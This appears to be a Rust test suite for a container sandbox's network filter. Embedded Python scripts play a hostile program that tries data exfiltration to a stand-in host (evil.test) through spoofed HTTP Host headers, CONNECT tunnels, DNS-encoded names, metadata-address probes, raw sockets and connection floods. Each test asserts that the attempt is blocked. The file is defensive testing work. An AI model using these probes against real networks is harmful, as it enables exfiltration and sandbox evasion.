//! What a hostile program tries: other names in TLS and HTTP, raw addresses, other protocols, floods.

use super::WORLD;
use super::names::{curl, sh};
use super::world::World;
use crate::harness::carried::slow;
use crate::harness::{Need, case};

/// Hundreds of questions and connections within a time.
const FLOOD: &[Need] = &[Need::Root, Need::Userns, Need::Idmap, Need::World, Need::Quick];

const PRELUDE: &str = r#"
import socket, ssl, struct, sys, time
def ip(name): return socket.gethostbyname(name)
def connect(name, port):
    s = socket.create_connection((name if name[0].isdigit() else ip(name), port), 8 * slow); s.settimeout(8 * slow); return s
def talk(name, port, *parts, pause=0):
    s = connect(name, port)
    try:
        for p in parts:
            s.sendall(p); time.sleep(pause)
        d = b""
        while True:
            n = s.recv(65536)
            if not n: return d or b"closed"
            d += n
            if d.count(b" /") >= len(b"".join(parts).split(b"HTTP/1.1")) - 1 and d.endswith(b"\n"): return d
    except ConnectionResetError:
        return b"reset"
    except socket.timeout:
        return b"timeout"
def tls(name, server, **more):
    c = ssl.create_default_context(cafile="authority.pem"); c.check_hostname = False
    for k, v in more.items(): setattr(c, k, v)
    try:
        s = c.wrap_socket(connect(name, 443), server_hostname=server)
        s.sendall(b"GET /t HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
        return b"answered" if b"200" in s.recv(65536) else b"what"
    except (ConnectionResetError, ssl.SSLEOFError, BrokenPipeError):
        return b"reset"
"#;

fn with_prelude(script: &str) -> String {
    format!("slow = {}\n{PRELUDE}{script}", slow())
}

fn python(world: &World, allow: &[&str], script: &str) -> crate::harness::Output {
    let call = allow.iter().fold(world.run(), |call, rule| call.args(["--allow-net", rule]));
    call.args(["--", "python3", "-c", &with_prelude(script)]).output()
}

#[case(WORLD)]
fn the_name_in_tls_must_match() {
    let world = World::new();
    let script = r#"
print(tls("a.test", "a.test"))
print(tls("a.test", "A.TEST"))
print(tls("a.test", "b.test"))
print(tls("a.test", None))
c = ssl.MemoryBIO(); o = ssl.create_default_context(); o.check_hostname = False
b = o.wrap_bio(ssl.MemoryBIO(), c, server_hostname="a.test")
try: b.do_handshake()
except ssl.SSLWantReadError: pass
hello = c.read()
# In segments of one byte, and cut into records of 20 bytes: an answer is a ServerHello.
s = connect("a.test", 443); s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
for i in range(len(hello)): s.send(hello[i:i+1])
print(s.recv(1) == b"\x16")
body = hello[5:]; cut = b"".join(b"\x16\x03\x01" + struct.pack(">H", len(body[i:i+20])) + body[i:i+20] for i in range(0, len(body), 20))
s = connect("a.test", 443); s.sendall(cut); print(s.recv(1) == b"\x16")
# With an encrypted ClientHello, or something that looks like one.
ext = b"\xfe\x0d" + struct.pack(">H", 40) + b"\0" * 40
at = 43; at += 1 + body[4 + 34]; at = 4 + 34; at += 1 + body[at]; at += 2 + struct.unpack(">H", body[at:at+2])[0]; at += 1 + body[at]
n = struct.unpack(">H", body[at:at+2])[0]
with_ech = body[:at] + struct.pack(">H", n + len(ext)) + body[at+2:] + ext
with_ech = with_ech[:1] + struct.pack(">I", len(with_ech) - 4)[1:] + with_ech[4:]
print(talk("a.test", 443, b"\x16\x03\x01" + struct.pack(">H", len(with_ech)) + with_ech))
print(talk("a.test", 443, b"GET / HTTP/1.1\r\nHost: a.test\r\n\r\n"))
"#;
    let out = python(&world, &["a.test"], script).ok();
    let expect = "b'answered'\nb'answered'\nb'reset'\nb'reset'\nTrue\nTrue\nb'reset'\nb'reset'\n";
    assert_eq!(out.stdout, expect, "{out}");
    for says in [
        "a.test:443: a TLS connection to b.test (--allow-net b.test)",
        "a.test:443: a TLS connection without a server name (--allow-net a.test,any-sni)",
        "encrypted ClientHello) (--allow-net a.test,any-sni)",
        "a.test:443: no TLS connection",
    ] {
        assert!(out.stderr.contains(says), "{says}\n{out}");
    }
    let lifted = "print(tls('a.test', 'b.test')); print(tls('a.test', None))";
    let out = python(&world, &["a.test,any-sni"], lifted).ok();
    assert_eq!(out.stdout, "b'answered'\nb'answered'\n", "{out}");
    world.leak_check();
}

#[case(WORLD)]
fn the_host_of_every_request_must_match() {
    let world = World::new();
    let script = r#"
def get(host, path=b"/"): return b"GET " + path + b" HTTP/1.1\r\nHost: " + host + b"\r\n\r\n"
good, bad = get(b"a.test"), get(b"evil.test", b"/stolen")
print(talk("a.test", 80, good, good).count(b"a.test /"))
print(talk("a.test", 80, bad))
d = talk("a.test", 80, good + bad); print(b"stolen" in d, d[:5])
d = talk("a.test", 80, good, bad, pause=0.3); print(b"stolen" in d, d[:5])
print(talk("a.test", 80, b"CONNECT evil.test:443 HTTP/1.1\r\nHost: a.test\r\n\r\n"))
print(talk("a.test", 80, b"GET / HTTP/1.1\r\n\r\n"))
print(talk("a.test", 80, b"POST / HTTP/1.1\r\nHost: a.test\r\nContent-Length: 0\r\nTransfer-Encoding: chunked\r\n\r\n"))
post = b"POST / HTTP/1.1\r\nHost: a.test\r\nContent-Length: %d\r\n\r\n" % len(bad) + bad
s = connect("a.test", 80); s.sendall(post); d = b""
while not d.endswith(b"\n41\n"): d += s.recv(65536)
print(d[-4:])
"#;
    let out = python(&world, &["a.test:80"], script).ok();
    let lines: Vec<_> = out.stdout.lines().collect();
    assert_eq!(lines[0], "2", "{out}");
    assert_eq!(lines[1], "b'reset'", "{out}");
    for line in [lines[2], lines[3]] {
        assert!(line.starts_with("False"), "what came before may pass, the other host's must not\n{out}");
    }
    assert_eq!(lines[4..7], ["b'reset'"; 3], "{out}");
    assert_eq!(lines[7], "b'\\n41\\n'", "a body may hold what it likes\n{out}");
    out.says("a.test:80: an HTTP request to evil.test (--allow-net evil.test:80)")
        .says("the method CONNECT")
        .says("an HTTP request without a host");
    let out = python(
        &world,
        &["a.test:80,any-sni"],
        "print(b'stolen' in talk('a.test', 80, b'GET /stolen HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n'))",
    )
    .ok();
    assert_eq!(out.stdout, "True\n", "{out}");
    world.leak_check();
}

#[case(WORLD)]
fn half_closes_and_resets_pass() {
    let world = World::new();
    let script = r#"
s = connect("a.test", 7000); block = b"x" * (1 << 20)
for i in range(64): s.sendall(block)
s.shutdown(socket.SHUT_WR); print(s.recv(100), s.recv(100))
s = connect("a.test", 7001); s.send(b"x")
try: print(s.recv(1))
except ConnectionResetError: print("reset")
s = connect("a.test", 7002); print(s.recv(100)); s.close()
s = connect("a.test", 7005); s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0)); s.send(b"y"); s.recv(1); s.close()
s = connect("a.test", 7005)
for i in range(200):
    s.send(b"%d" % i); s.recv(10)
print("echoed")
"#;
    let out = python(&world, &["a.test:7000", "a.test:7001", "a.test:7002", "a.test:7005"], script).ok();
    assert_eq!(out.stdout, "b'67108864' b''\nreset\nb'hello first\\n'\nechoed\n", "{out}");
    world.leak_check();
}

/// Addresses without a name, ports without a rule, UDP, packets, netlink, abstract sockets.
#[case(WORLD)]
fn raw_addresses_and_other_protocols_lead_nowhere() {
    let world = World::new();
    let script = r#"
import errno, os
def attempt(what, f):
    try: print(what, f() or "worked")
    except OSError as e: print(what, errno.errorcode.get(e.errno, e))
def tcp(address, port, family=socket.AF_INET):
    s = socket.socket(family); s.settimeout(5 * slow); s.connect((address, port))
    s.sendall(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n"); return s.recv(10) and "ANSWERED"
a = ip("a.test")
attempt("beyond", lambda: tcp("203.0.113.2", 80))
attempt("metadata", lambda: tcp("169.254.169.254", 80))
attempt("beyond6", lambda: tcp("2001:db8:113::2", 80, socket.AF_INET6))
attempt("unknown", lambda: tcp("198.18.77.77", 80))
attempt("port", lambda: tcp(a, 22))
attempt("lo", lambda: tcp("127.0.0.1", 80))
def udp(address, port):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3 * slow); s.connect((address, port)); s.send(b"x"); s.recv(10)
attempt("quic", lambda: udp(a, 80))
attempt("udp", lambda: udp("203.0.113.2", 53))
attempt("packet", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))
attempt("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))
attempt("audit", lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 9))
def route():
    s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
    m = struct.pack("=IHHII", 28, 24, 0x605, 1, 0) + struct.pack("=BBBBBBBBI", 2, 0, 0, 0, 254, 3, 0, 1, 0)
    s.send(m); return errno.errorcode[-struct.unpack("=i", s.recv(100)[16:20])[0]]
attempt("route", route)
def abstract(name):
    s = socket.socket(socket.AF_UNIX); s.connect("\0" + name)
attempt("abstract", lambda: abstract("/tmp/.X11-unix/X0"))
print("devices", os.listdir("/sys/class/net"), "open", sorted(int(f) for f in os.listdir("/proc/self/fd"))[:4])
"#;
    // What listens on the host's loopback is not there, either.
    let _server = world.serve_on_loopback(80);
    let out = python(&world, &["a.test:80"], script).ok();
    let expect = "beyond ECONNRESET\nmetadata ECONNRESET\nbeyond6 ECONNRESET\nunknown ECONNRESET\nport ECONNREFUSED\n\
                  lo ECONNRESET\nquic ECONNREFUSED\nudp ECONNREFUSED\npacket EAFNOSUPPORT\nraw EPERM\naudit EAFNOSUPPORT\n\
                  route EPERM\nabstract ECONNREFUSED\ndevices ['lo'] open [0, 1, 2, 3]\n";
    let plain =
        out.stdout.replace("EPROTONOSUPPORT", "EAFNOSUPPORT").replace("packet EPERM", "packet EAFNOSUPPORT");
    assert_eq!(plain, expect, "{out}");
    world.leak_check();
}

/// Each connection that no rule allows is reported, also where no listener of the helper's takes it.
#[case(WORLD)]
fn what_no_rule_allows_is_reported() {
    let world = World::new();
    let audit = world.dir().join("audit.jsonl");
    let script = r#"
def tcp(address, port, family=socket.AF_INET):
    s = socket.socket(family); s.settimeout(8 * slow)
    try: s.connect((address, port)); s.recv(1)
    except ConnectionError: return "refused"
def udp(address, port):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(8 * slow); s.connect((address, port)); s.send(b"x")
    try: s.recv(1)
    except ConnectionError: return "refused"
print(tcp("169.254.169.254", 80), tcp("203.0.113.2", 443), tcp(ip("a.test"), 22), tcp("2001:db8:113::2", 25, socket.AF_INET6))
print(udp("203.0.113.2", 53), udp(ip("a.test"), 443))
# The program's own traffic is not a refusal: a port where nothing listens, its datagrams, its names.
print(tcp("127.0.0.1", 99), tcp("::1", 99, socket.AF_INET6), udp("127.0.0.1", 99), tls("a.test", "a.test"), flush=True)
# The last word before the end.
tcp("203.0.113.3", 8080)
import os; os._exit(3)
"#;
    let call = world.run().args(["--audit-log", &audit.display().to_string(), "--allow-net", "a.test"]);
    let out = call.args(["--", "python3", "-c", &with_prelude(script)]).output().exits(3);
    let refused = "refused refused refused refused\nrefused refused\nrefused refused refused b'answered'\n";
    assert_eq!(out.stdout, refused, "{out}");
    let lines: Vec<_> =
        out.stderr.lines().filter_map(|l| l.strip_prefix("safebox: network: refused ")).collect();
    let mut expect = vec![
        "169.254.169.254:80: no rule allows this address (--allow-net 169.254.169.254:80)",
        "203.0.113.2:443: no rule allows this address (--allow-net 203.0.113.2:443)",
        "a.test:22: no rule allows this port (--allow-net a.test:22)",
        "[2001:db8:113::2]:25: no rule allows this address (--allow-net [2001:db8:113::2]:25)",
        "203.0.113.2:53/udp: only TCP is carried",
        "a.test:443/udp: only TCP is carried",
        "203.0.113.3:8080: no rule allows this address (--allow-net 203.0.113.3:8080)",
    ];
    let mut sorted = lines.clone();
    sorted.sort_unstable();
    expect.sort_unstable();
    assert_eq!(sorted, expect, "{out}");
    let audit = std::fs::read_to_string(audit).expect("the audit file");
    let refused = audit.lines().filter(|line| line.contains("\"refused\"")).count();
    assert_eq!(refused, expect.len(), "{audit}");
    world.leak_check();
}

/// Neither a refused name nor anything but addresses of an allowed one is asked for outside, in lower case.
#[case(FLOOD)]
fn names_carry_nothing_out() {
    let world = World::new();
    let script = r#"
def ask(name, kind):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3 * slow)
    q = b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0"
    s.sendto(b"\x12\x34\1\0\0\1\0\0\0\0\0\0" + q + struct.pack(">HH", kind, 1), ("127.0.0.1", 53))
    d = s.recv(512); return d[3] & 15, struct.unpack(">H", d[6:8])[0]
start = time.time()
for i in range(300): assert ask("data%d.evil.test" % i, 1) == (5, 0)
print("refused", time.time() - start < 3 * slow)
for kind in (16, 15, 65, 255, 12, 10): print(kind, ask("a.test", kind))
print(ask("A.TeSt", 1), ask("secret.a.test", 1), ask("_https._tcp.a.test", 33), ask("_x.evil.test", 33))
for junk in (b"", b"x", b"\0" * 12, b"\xff" * 600, b"\x12\x34\1\0\0\2" + b"\0" * 6 + b"\1a\4test\0\0\1\0\1" * 2):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(junk, ("127.0.0.1", 53))
s = socket.create_connection(("127.0.0.1", 53)); q = b"\x12\x34\1\0\0\1\0\0\0\0\0\0\1a\4test\0\0\1\0\1"
for part in (struct.pack(">H", len(q))[:1], struct.pack(">H", len(q))[1:] + q[:5], q[5:]): s.send(part); time.sleep(0.05)
print("tcp", len(s.recv(512)) > 30, ask("a.test", 1))
"#;
    let out = python(&world, &["a.test"], script).ok();
    let types = "16 (0, 0)\n15 (0, 0)\n65 (0, 0)\n255 (0, 0)\n12 (0, 0)\n10 (0, 0)\n";
    assert_eq!(
        out.stdout,
        format!("refused True\n{types}(0, 1) (5, 0) (3, 0) (5, 0)\ntcp True (0, 1)\n"),
        "{out}"
    );
    let questions = world.questions();
    assert!(
        questions.iter().all(|q| q.starts_with("a.test 1 ") || q.starts_with("a.test 28 ")),
        "{questions:?}"
    );
    // So many refusals are a bounded number of lines.
    assert!(out.stderr.lines().count() < 70, "{out}");
    out.says("more (--audit-log FILE has all)");
    world.leak_check();
}

#[case(FLOOD)]
fn floods_and_silence_stop_no_other_connection() {
    let world = World::new();
    let script = r#"
silent = [connect("a.test", 443) for i in range(300)]
for s in silent[:100]: s.send(b"\x16\x03\x01")
start = time.time()
print(tls("a.test", "a.test"), time.time() - start < 2 * slow)
a = ip("b.test")
refused = 0
for i in range(2000 // slow):
    s = socket.socket(); s.settimeout(8 * slow)
    try: s.connect((a, 443)); s.recv(1)
    except ConnectionResetError: refused += 1
    s.close()
print(refused, tls("a.test", "a.test"))
"#;
    // By default a small machine allows fewer open files.
    let options = ["--ulimit", "nofile=1024", "--allow-net", "a.test", "--allow-net", "b.test:8443"];
    let call = world.run().args(options).args(["--", "python3", "-c", &with_prelude(script)]);
    let out = call.limit(std::time::Duration::from_secs(120)).output().ok();
    assert_eq!(out.stdout, format!("b'answered' True\n{} b'answered'\n", 2000 / slow()), "{out}");
    world.leak_check();
}

/// A program that sends what the helper must hold: empty lines before a request, questions whose answers it does not read.
#[case(WORLD)]
fn what_never_ends_is_ended() {
    let world = World::new();
    let script = r#"
def sent(s, block):
    n, start = 0, time.time(); s.settimeout(60 * slow)
    try:
        while time.time() - start < 8 * slow: n += s.send(block)
        return "endless"
    except (ConnectionResetError, BrokenPipeError): return "ended"
print(sent(connect("a.test", 80), b"\r\n" * 30000))
q = b"\x12\x34\1\0\0\1\0\0\0\0\0\0\4nope\4test\0\0\1\0\1"
print(sent(socket.create_connection(("127.0.0.1", 53)), (struct.pack(">H", len(q)) + q) * 2000))
s = socket.create_connection(("127.0.0.1", 53)); s.settimeout(8 * slow)
for i in range(50): s.sendall(struct.pack(">H", len(q)) + q); assert len(s.recv(512)) > 20
large = q[:10] + b"\0\1" + q[12:] + b"\0\0\x29\x10\0\0\0\0\0" + struct.pack(">HHH", 1504, 12, 1500) + b"\0" * 1500
s.sendall(struct.pack(">H", len(large)) + large + struct.pack(">H", len(q)) + q); print(len(s.recv(4096)) < 200)
"#;
    let out = python(&world, &["a.test:80"], script).ok();
    assert_eq!(out.stdout, "ended\nended\nTrue\n", "{out}");
    world.leak_check();
}

/// The addresses of one container mean nothing in another, and its helper is out of reach.
#[case(WORLD)]
fn two_containers_do_not_share_a_helper() {
    let world = World::new();
    let first =
        world.run().args(["--allow-net", "a.test:80", "--", "sh", "-c", "curl -s http://a.test/; sleep 20"]);
    let running = world.sb.run_until(first, "a.test /");
    let other = world.sb.other_id("two");
    let call = world.runtime().args(["run", "-q", "--name", &other, "--allow-net", "b.test:80"]);
    let out = sh(call, &curl(&["http://198.18.0.1/", "http://a.test/", "http://b.test/"])).ok();
    // The reset may come before the connect has returned, or after it.
    let plain = out.stdout.replacen("= 7\n", "= 56\n", 1);
    assert_eq!(plain, "= 56\n= 6\n203.0.113.3:80 b.test /\n= 0\n", "{out}");
    let call = world.runtime().args(["run", "-q", "--name", &other]);
    let out = sh(call, &curl(&["http://198.18.0.1/"])).ok();
    assert_eq!(out.stdout, "= 7\n", "{out}");
    world.sb.kill("KILL");
    running.wait();
    world.leak_check();
}
